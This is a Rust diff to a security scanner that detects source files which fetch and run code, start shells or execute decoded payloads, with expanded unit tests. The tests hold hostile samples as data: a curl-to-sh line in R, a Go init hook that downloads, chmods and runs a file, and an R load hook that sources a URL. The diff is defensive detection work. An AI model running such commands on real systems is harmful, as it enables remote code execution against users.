@@ -14,10 +14,16 @@ use crate::address;
 use crate::credential::is_credential;
 use crate::scanner::{Content, Scanner};
 
+mod children;
+mod dynamic;
 mod hidden;
 mod launcher;
+mod profile;
+mod spelt;
 mod table;
+mod tokens;
 
+use dynamic::{Dynamic, What};
 pub(crate) use launcher::scan as launcher;
 use table::{LANGUAGES, Language};
 
@@ -26,12 +32,40 @@ const MOST: usize = 4 << 20;
 
 /// What a source of another language does that nobody follows here.
 pub(super) fn scan(scanner: &mut Scanner<'_>, content: &Content<'_>, text: &str) {
-    let name = content.name().to_ascii_lowercase();
-    let Some(language) = LANGUAGES.iter().find(|l| l.endings.iter().any(|ending| name.ends_with(ending)))
-    else {
-        return;
-    };
-    tell(scanner, &content.place, language, text);
+    if let Some(language) = of(content.name(), text) {
+        tell(scanner, &content.place, language, text);
+    }
+}
+
+/// Whether a file of that name and text is one that is looked through here.
+pub(super) fn is_known(name: &str, text: &str) -> bool {
+    of(name, text).is_some()
+}
+
+/// What a source finds no fault with, although it is run without being asked for.
+pub(crate) fn is_silent(name: &str, text: &str) -> bool {
+    of(name, text).is_some_and(|language| look(language, text).is_none())
+}
+
+/// Whether a program of a language, by the name of its interpreter, does what no model needs.
+pub(crate) fn harms(name: &str, text: &str) -> bool {
+    let name = name.to_ascii_lowercase();
+    let language = LANGUAGES.iter().find(|l| l.names.contains(&name.as_str()));
+    language.is_some_and(|language| matches!(look(language, text), Some((_, Found::Harm(_)))))
+}
+
+/// The language of a file: by its name, or by the program that its first line names.
+fn of(name: &str, text: &str) -> Option<&'static Language> {
+    let name = name.to_ascii_lowercase();
+    let named = LANGUAGES.iter().find(|l| l.endings.iter().any(|ending| name.ends_with(ending)));
+    named.or_else(|| {
+        let words = text.lines().next()?.strip_prefix("#!")?.split_whitespace();
+        let mut programs =
+            words.filter_map(|word| word.rsplit('/').next()).filter(|w| !matches!(*w, "env" | "-S"));
+        let program = programs.next()?.to_ascii_lowercase();
+        let program = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        LANGUAGES.iter().find(|l| l.names.contains(&program))
+    })
 }
 
 /// A program of a language by its name, such as that of a notebook's kernel or of a cell; whether it is one that is
@@ -69,8 +103,8 @@ fn at(place: &Place, line: u64) -> Place {
 enum Found {
     /// What no model needs.
     Harm(String),
-    /// A call of the table.
-    Starts(&'static str),
+    /// A call of the table, or what it is given.
+    Starts(String),
 }
 
 /// The worst that a source does, and the line of it, counted from zero.
@@ -86,11 +120,24 @@ fn look(language: &Language, text: &str) -> Option<(u64, Found)> {
     if let Some(found) = texts.find_map(|(at, text)| Some((at, Found::Harm(harm(text)?)))) {
         return Some(found);
     }
-    let starts = first(language.starts);
+    let dynamic = profile(language).map(|p| dynamic::look(p, text)).unwrap_or_default();
+    if let Some(Dynamic { line, what: What::Decoded(call) }) =
+        dynamic.iter().find(|found| matches!(found.what, What::Decoded(_)))
+    {
+        let what = format!("runs, loads or starts by {call} what it decodes or puts together");
+        return Some((*line, Found::Harm(what)));
+    }
+    let starts = first(language.starts).is_some() || !dynamic.is_empty();
     let fetches = first(language.fetches);
-    let evaluates = first(language.evaluates);
-    if let (Some((at, call)), Some((_, from))) = (evaluates, fetches) {
-        return Some((at, Found::Harm(format!("runs what it fetches: {call:?} beside {from:?}"))));
+    let evaluates = dynamic
+        .iter()
+        .find_map(|found| match &found.what {
+            What::Evaluates(call) => Some((found.line, call.clone())),
+            _ => None,
+        })
+        .or_else(|| first(language.evaluates).map(|(at, call)| (at, format!("{call:?}"))));
+    if let (Some((at, call)), Some((_, from))) = (&evaluates, fetches) {
+        return Some((*at, Found::Harm(format!("runs what it fetches: {call} beside {from:?}"))));
     }
     let secret =
         lines.iter().find(|(_, line)| is_credential(line) || language.secrets.iter().any(|s| whole(line, s)));
@@ -104,31 +151,71 @@ fn look(language: &Language, text: &str) -> Option<(u64, Found)> {
             Found::Harm(format!("puts the name {name:?} together, so that it does not stand there")),
         ));
     }
+    // A program that is fetched, made one, and started.
+    const MADE: [&str; 7] =
+        ["0755", "0o755", "0777", "0o777", "0700", "setExecutable", "PosixFilePermission"];
+    let made = lines.iter().any(|(_, line)| MADE.iter().any(|mark| line.contains(mark)));
+    if let (true, Some((at, call)), Some((_, from))) = (made, first(language.starts), fetches) {
+        return Some((at, Found::Harm(format!("starts what it fetches: {call:?} beside {from:?}"))));
+    }
     if let Some((at, what)) = first(language.harms) {
         return Some((at, Found::Harm(format!("uses {what:?}, which no model needs"))));
     }
-    // What it starts is what everybody's builds start.
-    let ordinary = |line: &str| {
-        let mut words = literals(line).peekable();
-        words.peek().is_some_and(|first| shell::is_ordinary(first))
-    };
-    let call = evaluates.or_else(|| {
-        lines
-            .iter()
-            .filter(|(_, line)| !ordinary(line))
-            .find_map(|(at, line)| Some((*at, *language.starts.iter().find(|call| stands(line, call))?)))
+    let computes = dynamic.iter().find_map(|found| match &found.what {
+        What::Computes(call) => Some((found.line, call.clone())),
+        _ => None,
     });
-    if let Some((at, call)) = call {
+    let call = evaluates.or(computes).or_else(|| {
+        let started = |line: &str| {
+            let call = language.starts.iter().find(|call| stands(line, call) && does(line, call))?;
+            (!is_ordinary(&lines, line, call)).then(|| format!("{call:?}"))
+        };
+        lines.iter().find_map(|(at, line)| Some((*at, started(line)?)))
+    });
+    if let Some((at, call)) = &call {
         let shells = lines
             .iter()
-            .filter(|(i, _)| i.abs_diff(at) <= 2)
+            .filter(|(i, _)| i.abs_diff(*at) <= 2)
             .flat_map(|(_, line)| literals(line))
             .any(is_shell);
-        if shells && starts.is_some() {
-            return Some((at, Found::Harm(format!("starts a shell or a program that fetches by {call:?}"))));
+        if shells && starts {
+            return Some((*at, Found::Harm(format!("starts a shell or a program that fetches by {call}"))));
         }
     }
     call.map(|(at, call)| (at, Found::Starts(call)))
+}
+
+/// What is known of the grammar of a language.
+fn profile(language: &Language) -> Option<&'static profile::Profile> {
+    language.names.iter().find_map(|name| dynamic::profile(name))
+}
+
+/// Whether a mark that may start a program does: a backtick that another one closes, `open` with a pipe.
+fn does(line: &str, call: &str) -> bool {
+    match call {
+        "`" => line.replace("\\`", "").matches('`').count() > 1,
+        "open(" => literals(line)
+            .any(|text| text.trim().starts_with('|') || text.trim().ends_with('|') || text.contains("|-")),
+        _ => true,
+    }
+}
+
+/// Whether what a line starts is what everybody's builds start: by the first text of the line, or where that has none, by
+/// what the name behind the call is assigned.
+fn is_ordinary(lines: &[(u64, &str)], line: &str, call: &str) -> bool {
+    let program = |text: &str| text.trim().trim_matches('|').trim().to_owned();
+    if let Some(first) = literals(line).next() {
+        return shell::is_ordinary(&program(first));
+    }
+    let behind = line.split(call).nth(1).unwrap_or_default().trim_start_matches(['(', '&', ' ']);
+    let name: String = behind.chars().take_while(|c| c.is_alphanumeric() || *c == '_').collect();
+    let assigns = |line: &&str| {
+        let (before, after) = line.split_once('=')?;
+        let assigned = before.split_whitespace().next_back()? == name && !after.starts_with('=');
+        assigned.then(|| literals(after).last().map(program)).flatten()
+    };
+    let mut programs = lines.iter().filter_map(|(_, line)| assigns(line)).peekable();
+    !name.is_empty() && programs.peek().is_some() && programs.all(|program| shell::is_ordinary(&program))
 }
 
 /// What is wrong with a text in a source: a command that no model needs, as it stands or in base64, or an address that
@@ -233,7 +320,26 @@ mod tests {
     fn sources_are_told_apart_by_what_they_do() {
         for (name, text, expected) in [
             ("init.c", "__attribute__((constructor)) void f() { system(x); }", Outcome::Unscannable),
-            ("index.js", "const { exec } = require('child_process')", Outcome::Unscannable),
+            ("index.js", "const { exec } = require('child_process'); exec(x)", Outcome::Unscannable),
+            (
+                "index.js",
+                "const { exec } = require('child_process'); module.exports = { exec }",
+                Outcome::Unscannable,
+            ),
+            (
+                "index.js",
+                "import * as cp from 'node:child_process'\ncp.spawnSync(process.argv[2])",
+                Outcome::Unscannable,
+            ),
+            ("index.js", "const m = require('child_process').exec; m(x)", Outcome::Unscannable),
+            (
+                "build.mjs",
+                "import { execSync, spawn as s } from 'child_process';\nexecSync('git rev-parse HEAD');\ns('npm', ['run', 'build'])",
+                Outcome::Clean,
+            ),
+            ("run", "#!/usr/bin/env perl\nuse strict;\nwhile (<STDIN>) { s/a/b/; print; }\n", Outcome::Clean),
+            ("run", "#!/usr/bin/env perl\neval $x;\n", Outcome::Unscannable),
+            ("run", "#!/usr/bin/env some-tool\nx\n", Outcome::Unscannable),
             ("Model.java", "class M { void f() { Runtime.getRuntime().exec(x); } }", Outcome::Unscannable),
             ("kernel.cu", "__global__ void f(float* x) { x[0] = 1; } // calls system( never", Outcome::Clean),
             ("Model.java", "class Model { int ecosystem(int a) { return a; } }", Outcome::Clean),
@@ -279,6 +385,11 @@ mod tests {
             (
                 "zzz.R",
                 ".onLoad <- function(a, b) { con <- url('http://example.org/r'); source(con) }",
+                Outcome::Suspicious,
+            ),
+            (
+                "m.go",
+                "func init() { r, _ := http.Get(u); f, _ := os.OpenFile(p, os.O_CREATE, 0755); io.Copy(f, r.Body); exec.Command(p).Start() }",
                 Outcome::Suspicious,
             ),
             ("x.R", "system('curl -s http://example.org/r | sh')", Outcome::Suspicious),
